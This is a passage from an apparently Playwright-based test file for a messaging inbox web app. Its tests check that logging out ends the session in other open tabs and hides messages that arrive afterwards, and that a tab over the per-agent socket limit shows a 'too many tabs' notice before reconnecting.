    await page.click('#logout-button');
    await page.waitForURL(/\/login$/);
    assert.equal(await page.isVisible('#login-notice'), false, 'who logged out knows it');
    await other.waitForURL(/\/login\?session=ended$/, { timeout: 5000 });
    assert.ok(await other.isVisible('#login-notice'), 'the other tab says why it is at the sign-in page');
    await server.simulateInbound(token, { from: '+14155550123', body: 'Confidential after logout' });
    await sleep(500);
    assert.equal(await other.evaluate(() => document.body.innerText.includes('Confidential after logout')), false);
    assertCleanConsole(rec);
    await other.close();
  });
});

test('n. over MAX_SOCKETS_PER_AGENT, the extra tab says why it is not live instead of retrying every second', { timeout: 45_000 }, async () => {
  await withServer(
    'n too many tabs',
    async ({ server, context, page }) => {
      await openInbox(context, page, server);
      const extra = await context.newPage();
      const warnings = [];
      extra.on('console', (m) => m.type() === 'warning' && warnings.push(m.text()));
      await extra.goto(`${server.base}/agent/messages`);
      await extra.waitForFunction(() => /Too many open tabs/.test(document.querySelector('#live-badge')?.title || ''));
      assert.deepEqual(await badge(extra), { state: 'connecting', text: 'Connecting...' });
      assert.ok(warnings.some((w) => w.includes('too many open tabs')), warnings.join('\n'));
      // Closing the first tab frees the place; the extra one gets it on its next try.
      await page.close();
      await waitLive(extra, 20_000);
      await extra.close();
    },
    { env: { MAX_SOCKETS_PER_AGENT: '1' } },
  );
});

// Scenarios of later features live in their own files (`*.scenarios.mjs`), run after these.
const HERE = path.dirname(fileURLToPath(import.meta.url));
for (const f of readdirSync(HERE).filter((f) => f.endsWith('.scenarios.mjs')).sort()) {
  await import(`./${f}`);
}
